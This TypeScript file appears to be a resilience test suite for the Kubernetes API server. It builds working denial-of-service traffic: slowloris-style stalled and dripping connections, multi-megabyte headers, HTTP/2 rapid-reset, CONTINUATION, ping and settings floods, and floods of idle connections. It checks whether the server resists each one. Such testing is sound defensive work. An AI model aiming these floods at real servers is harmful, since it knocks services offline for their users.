import { connect as connectTcp, type Socket } from 'node:net';
import { randomBytes } from 'node:crypto';
import { connect as connectTls } from 'node:tls';
import { each, type Attack } from '../attack.ts';
import { at, type Target } from '../target.ts';

/**
 * Longest a connection may stay that never becomes a whole request: kube-apiserver gives headers 32
 * s and a request 60 s.
 */
const stallMs = 80_000;

/** What a client sends and then stops, or goes on dripping. */
interface Stall {
  /** TLS is not even begun. */
  plain?: boolean;
  alpn?: string[];
  send(target: Target): Buffer | string;
  drip?: string;
  /** What may come instead of the end: an answer. */
  answered?: RegExp;
}

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const line = 'GET /version HTTP/1.1\r\nhost: x\r\n';

const stalls: Record<string, Stall> = {
  'tls-never-begun': { plain: true, send: () => '' },
  'tls-half-a-hello': { plain: true, send: () => Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]) },
  'nothing-after-tls': { send: () => '' },
  'half-a-request-line': { send: () => 'GET /vers' },
  'half-the-headers': { send: () => `${line}x-a: ` },
  'headers-drip': { send: () => `${line}x-a: `, drip: 'a' },
  'http2-without-preface': { alpn: ['h2'], send: () => '' },
  'http2-half-a-preface': { alpn: ['h2'], send: () => preface.slice(0, 10) },
};

const bodies: Record<string, Stall> = {
  'body-never-comes': {
    send: (target) => `${post(target)}content-length: 1000\r\n\r\n`,
    answered: /^HTTP\/1.1 [45]/,
  },
  'body-drips': {
    send: (target) => `${post(target)}content-length: 100000\r\n\r\n{`,
    drip: ' ',
    answered: /^HTTP\/1.1 [45]/,
  },
  'chunk-never-ends': {
    send: (target) => `${post(target)}transfer-encoding: chunked\r\n\r\nffff\r\n{`,
    answered: /^HTTP\/1.1 [45]/,
  },
};

/** A review that everybody with an identity may ask for. */
const post = (target: Target): string =>
  'POST /apis/authentication.k8s.io/v1/selfsubjectreviews HTTP/1.1\r\nhost: ' +
  `${target.server.host}\r\ncontent-type: application/json\r\n`;

/** All stalls of a run wait at the same time. */
let waiting: Map<string, Promise<string | undefined>> | undefined;

function outcomes(target: Target): Map<string, Promise<string | undefined>> {
  waiting ??= new Map(
    Object.entries({ ...stalls, ...bodies }).map(([name, stall]) => [
      name,
      outcome(target, stall, name in bodies),
    ]),
  );
  return waiting;
}

/** Undefined when the server ended it or answered with an error in time. */
async function outcome(target: Target, stall: Stall, known: boolean): Promise<string | undefined> {
  const socket = stall.plain
    ? connectTcp(Number(target.server.port || 443), target.server.hostname)
    : known
      ? await target.rawAsAdmin()
      : await target.raw({ alpn: stall.alpn });
  return new Promise((resolve) => {
    let [drip, late]: NodeJS.Timeout[] = [];
    const done = (what: string | undefined): void => {
      clearInterval(drip);
      clearTimeout(late);
      socket.destroy();
      resolve(what);
    };
    late = setTimeout(() => done(`still open after ${stallMs / 1000} s`), stallMs);
    socket.on('error', () => undefined);
    socket.on('close', () => done(undefined));
    socket.on(
      'data',
      (part: Buffer) => stall.answered?.test(part.toString('latin1')) && done(undefined),
    );
    socket.write(stall.send(target));
    const { drip: piece } = stall;
    if (piece !== undefined) drip = setInterval(() => socket.write(piece), 1000);
  });
}

const megabytes = (n: number): string => 'a'.repeat(n << 20);

/** A request line and headers of more than a megabyte must not be taken. */
async function largeHeaders(target: Target, headers: string): Promise<string | undefined> {
  const socket = await target.raw();
  const answer = await new Promise<string>((resolve) => {
    let text = '';
    socket.on('data', (part: Buffer) => (text += part.toString('latin1')));
    socket.on('error', () => resolve(text));
    socket.on('close', () => resolve(text));
    socket.setTimeout(30_000, () => resolve('HTTP/1.1 000 no answer'));
    socket.write(`${line}${headers}\r\n\r\n`);
  });
  socket.destroy();
  const status = answer.slice(9, 12);
  return status === '' || status.startsWith('4')
    ? undefined
    : `${headers.length} bytes of headers: ${status}`;
}

function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const version = Buffer.concat([
  Buffer.from([0x82, 0x87, 0x04, 8]),
  Buffer.from('/version'),
  Buffer.from([0x41, 1, 0x78]),
]);
const many = (count: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));

/** Frames that cost the server more than the client; a good client must not notice. */
const floods: Record<string, () => Buffer> = {
  'streams-opened-to-be-reset': () =>
    many(20_000, (i) =>
      Buffer.concat([
        frame(1, 5, 2 * i + 1, version),
        frame(3, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  'a-header-block-without-an-end': () =>
    Buffer.concat([
      frame(1, 0, 1, version),
      many(20_000, () =>
        frame(9, 0, 1, Buffer.from([0, 1, 0x61, 127, ...Buffer.alloc(127, 0x62)])),
      ),
    ]),
  'empty-continuations': () =>
    Buffer.concat([frame(1, 0, 1, version), many(100_000, () => frame(9, 0, 1))]),
  pings: () => many(200_000, () => frame(6, 0, 0, Buffer.alloc(8))),
  settings: () => many(200_000, () => frame(4, 0, 0)),
};

/** On a machine that has other work too; what is promised on a quiet one is in test/bench. */
const slowestMs = 5000;
/** On a busy machine: how much longer than just after the flood, when there is none. */
const slowestTimes = 10;
const quietMs = 5000;
/** Another's burst may fall upon a flood; upon each of three it does not. */
const tries = 3;

/** The slowest of a good client's requests until `over`. */
async function slowest(target: Target, over: () => boolean): Promise<number> {
  let worst = 0;
  while (!over()) {
    const { ms, status } = await target.call({
      path: '/api/v1/namespaces/default',
      timeoutMs: 60_000,
    });
    if (status !== 200) throw new Error(`a good client got ${status}`);
    worst = Math.max(worst, ms);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return worst;
}

/**
 * How long a good client waits while `during` runs, unless that is short or the machine's own
 * doing.
 */
async function goodClient(
  target: Target,
  during: () => Promise<unknown>,
): Promise<string | undefined> {
  let what: string | undefined;
  for (let i = 0; i < tries; i++) {
    let over = false;
    const [worst] = await Promise.all([
      slowest(target, () => over),
      during().finally(() => (over = true)),
    ]);
    if (worst <= slowestMs) return undefined;
    const end = performance.now() + quietMs;
    const quiet = await slowest(target, () => performance.now() > end);
    if (worst <= slowestTimes * quiet) return undefined;
    what =
      `a good client waited ${worst.toFixed(0)} ms, and ${quiet.toFixed(0)} ms without the ` +
      'flood';
  }
  return what;
}

async function sendFrames(target: Target, frames: Buffer): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: 4 }, () => target.raw({ alpn: ['h2'] })));
  await Promise.all(
    sockets.map(
      (socket) =>
        new Promise<void>((resolve) => {
          socket.on('error', () => undefined);
          socket.on('close', () => resolve());
          setTimeout(resolve, 5000);
          socket.write(Buffer.concat([Buffer.from(preface), frame(4, 0, 0), frames]));
        }),
    ),
  );
  for (const socket of sockets) socket.destroy();
}

interface Idle {
  tls?: boolean;
  /** Bytes that begin something, without TLS. */
  send?: number[];
}

/** Opens connections that never ask anything and keeps them. */
async function idleConnections(
  target: Target,
  count: number,
  { tls = false, send = [] }: Idle,
): Promise<void> {
  const sockets: Socket[] = [];
  for (let i = 0; i < count; i++) {
    const port = Number(target.server.port || 443);
    const socket = tls
      ? connectTls({ host: target.server.hostname, port, ca: target.ca })
      : connectTcp(port, target.server.hostname);
    socket.on('error', () => undefined);
    if (send.length) socket.write(Buffer.from(send));
    sockets.push(socket);
    // Slow enough that making them costs the good client beside it little.
    if (i % 20 === 19) await new Promise((resolve) => setTimeout(resolve, 100));
  }
  await new Promise((resolve) => setTimeout(resolve, 2000));
  for (const socket of sockets) socket.destroy();
}

const api = '/apis/flowcontrol.apiserver.k8s.io/v1';

/** A user whose level has no seat is sent away, and told when to come again; nobody else is. */
async function jailed(target: Target, limitResponse: object): Promise<string | undefined> {
  const name = `attack-${randomBytes(4).toString('hex')}`;
  await target.make(`${api}/prioritylevelconfigurations`, {
    kind: 'PriorityLevelConfiguration',
    apiVersion: 'flowcontrol.apiserver.k8s.io/v1',
    metadata: { name },
    spec: {
      type: 'Limited',
      limited: { nominalConcurrencyShares: 0, borrowingLimitPercent: 0, limitResponse },
    },
  });
  const rules = [
    {
      subjects: [{ kind: 'User', user: { name } }],
      nonResourceRules: [{ verbs: ['*'], nonResourceURLs: ['*'] }],
    },
  ];
  const schema = await target.make(`${api}/flowschemas`, {
    kind: 'FlowSchema',
    apiVersion: 'flowcontrol.apiserver.k8s.io/v1',
    metadata: { name },
    spec: { matchingPrecedence: 100, priorityLevelConfiguration: { name }, rules },
  });
  const ask = (user: string): ReturnType<Target['call']> =>
    target.call({ path: '/version', as: { user, groups: ['system:authenticated'] } });
  const uid = at(schema, 'metadata', 'uid');
  const end = performance.now() + 20_000;
  let last = await ask(name);
  while (last.status !== 429 && performance.now() < end) last = await ask(name);
  if (last.status !== 429) return `served with ${last.status} though there is no seat`;
  if (
    last.headers['retry-after'] === undefined ||
    last.headers['x-kubernetes-pf-flowschema-uid'] !== uid
  )
    return 'sent away without Retry-After or without its FlowSchema';
  const other = await ask(`${name}-other`);
  return other.status === 200 ? undefined : `another user got ${other.status}`;
}

/**
 * Connections, headers, bodies and requests that cost the server more than they cost the client.
 */
export const attacks: Attack[] = [
  ...each('stalled-connection', { ...stalls }, (target, stall) => result(target, stall)),
  ...each('stalled-body', { ...bodies }, (target, stall) => result(target, stall)),
  ...each(
    'large-headers',
    {
      'one-of-2-megabytes': () => `x-a: ${megabytes(2)}`,
      'forty-thousand': () =>
        Array.from({ length: 40_000 }, (_, i) => `x-${i}: ${'b'.repeat(50)}`).join('\r\n'),
      'a-token-of-2-megabytes': () => `authorization: Bearer ${megabytes(2)}`,
      'a-cookie-of-2-megabytes': () => `cookie: ${megabytes(2)}`,
    },
    (target, make) => largeHeaders(target, make()),
    { alone: true },
  ),
  ...each(
    'http2-flood',
    floods,
    (target, make) => goodClient(target, () => sendFrames(target, make())),
    { alone: true },
  ),
  ...each(
    'connection-flood',
    {
      'without-tls': {},
      'with-tls': { tls: true },
      'half-a-hello': { send: [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc] },
      'half-a-record-head': { send: [0x16, 3] },
    } as Record<string, Idle>,
    (target, idle) => goodClient(target, () => idleConnections(target, 1500, idle)),
    { alone: true },
  ),
  ...each(
    'no-seat',
    {
      'with-a-queue': { type: 'Queue', queuing: { queues: 2, handSize: 1, queueLengthLimit: 1 } },
      'with-one-queue': {
        type: 'Queue',
        queuing: { queues: 1, handSize: 1, queueLengthLimit: 10 },
      },
      'with-many-queues': {
        type: 'Queue',
        queuing: { queues: 64, handSize: 6, queueLengthLimit: 50 },
      },
    },
    jailed,
  ),
];

async function result(target: Target, stall: Stall): Promise<string | undefined> {
  const name = Object.entries({ ...stalls, ...bodies }).find(([, one]) => one === stall)?.[0] ?? '';
  return outcomes(target).get(name);
}
